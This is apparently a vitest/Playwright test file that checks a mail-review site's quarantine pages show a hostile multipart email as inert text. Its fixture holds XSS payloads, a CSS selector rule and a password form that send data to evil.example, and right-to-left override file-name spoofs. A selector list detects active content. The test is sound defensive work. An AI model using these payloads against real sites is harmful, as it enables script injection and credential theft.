/** A message that attacks who reads it: nothing of it is active, nothing is fetched, and what it hides is named. */
import { describe, expect, it } from 'vitest';
import { axe, shot, startChromium, weightOf } from './chromium.ts';
import { kept } from './kept.ts';
import { reviewSite } from './site.ts';

const ELSEWHERE = 'https://evil.example';
const HTML = `<html><head><meta http-equiv="refresh" content="0;url=${ELSEWHERE}/refresh"><base href="${ELSEWHERE}/">
<link rel="stylesheet" href="${ELSEWHERE}/style.css"><script>alert(1)</script>
<style>@import url(${ELSEWHERE}/import.css); input[value^=a] { background: url(${ELSEWHERE}/exfil?a) } body { display: none }</style></head>
<body onload="alert(2)" background="${ELSEWHERE}/back.png"><img src="${ELSEWHERE}/pixel.png" onerror="alert(3)">
<svg><script>alert(4)</script><image href="${ELSEWHERE}/svg.png"/><a xlink:href="javascript:alert(5)"><text>svg</text></a></svg>
<iframe src="${ELSEWHERE}/frame"></iframe><object data="${ELSEWHERE}/object"></object><video src="${ELSEWHERE}/v" autoplay></video>
<form action="${ELSEWHERE}/form" method="post"><input name="password" value="abc" autofocus onfocus="alert(6)"><button>Sign in</button></form>
<a href="javascript:alert(7)">Minutes</a><math><mtext><script>alert(8)</script></mtext></math>
<p>"><script>alert(9)</script></textarea></title></style><img src=x onerror=alert(10)></p>
<p>My notes of the National Executive Committee on Tuesday 17 November. The NEC discussed the timetable for selections;
two more weeks for branches to nominate were agreed by 17 votes to 12. The Chair ruled a motion out of order.</p>
<p>\u202eevil txet\u202c and zero\u200bwidth</p></body></html>`;

const COLUMNS = Array.from({ length: 120 }, (_, index) => `"<b>c${index}</b>"`);
const SHEET = Array.from({ length: 2_000 }, () => COLUMNS.join(',')).join('\r\n');

const site = await kept(reviewSite());
const chromium = await kept(startChromium());
const base64 = (text: string) =>
  Buffer.from(text)
    .toString('base64')
    .replace(/.{1,76}/g, '$&\r\n');
const raw = [
  'From: a.khan@party.example',
  'To: x@nowhere.example',
  `Subject: =?utf-8?B?${Buffer.from('<script>alert(11)</script> \u202egpj.exe').toString('base64')}?=`,
  'MIME-Version: 1.0',
  'Content-Type: multipart/mixed; boundary=b',
  '',
  '--b',
  'Content-Type: text/html; charset=utf-8',
  'Content-Transfer-Encoding: base64',
  '',
  base64(HTML),
  '--b',
  `Content-Type: text/csv; name="=?utf-8?B?${Buffer.from('"><img src=x onerror=alert(12)>\u202efdp.csv').toString('base64')}?="`,
  'Content-Disposition: attachment',
  'Content-Transfer-Encoding: base64',
  '',
  base64(SHEET),
  '--b--',
  '',
].join('\r\n');
const id = await site.submit({ from: 'a.khan@party.example', to: ['x@nowhere.example'], raw });
const window = await chromium.open(await site.linkFor('ivy.careful', ['senior-reviewer']));

/** What of a message would be active, by what it is; the page's own script, forms and links are not counted. */
const ACTIVE = [
  'script:not([src^="/static/"])',
  'style',
  'iframe, object, embed, video, audio, svg, math, base, meta[http-equiv]',
  'img',
  'form[action^="http"], form:not([action^="/"]):not([method="dialog"])',
  'a[href^="javascript"], a[href^="http"], [onload], [onerror], [onfocus], [onclick]',
  '[style]',
].join(', ');

describe('a hostile message', () => {
  it.each([
    ['in the queue', () => '/quarantine'],
    ['on its page', () => `/quarantine/${id}`],
    ['in its body', () => `/quarantine/${id}/parts/0`],
    ['in its huge table', () => `/quarantine/${id}/parts/1`],
    ['among its grounds', () => `/quarantine/${id}/grounds`],
  ])('is text and nothing else %s', async (name, path) => {
    const { page, strangers } = window;
    await page.goto(`${site.url}${path()}`);
    const active = page.locator(ACTIVE);
    expect(await active.evaluateAll((all) => all.map((each) => String(each.outerHTML)))).toEqual([]);
    expect(strangers()).toEqual([]);
    expect(await axe(page)).toEqual([]);
    expect(await weightOf(page)).toBeLessThan(150_000);
    const width = await page.evaluate<number>('document.documentElement.scrollWidth');
    expect(width).toBeLessThanOrEqual(page.viewportSize()?.width ?? 0);
    // Last, because taking a picture writes styles of its own into the page.
    await shot(page, `hostile-${name.replaceAll(' ', '-')}`);
  });

  it('names the letters that would turn or hide text', async () => {
    const { page } = window;
    await page.goto(`${site.url}/quarantine/${id}`);
    expect(await page.locator('h1').textContent()).toBe('<script>alert(11)</script> RLOgpj.exe');
    expect(await page.locator('h1 .unseen-letter').first().getAttribute('title')).toContain('RLO');
    expect(await page.content()).not.toMatch(/[\u202a-\u202e\u2066-\u2069\u200b]/);
  });
});
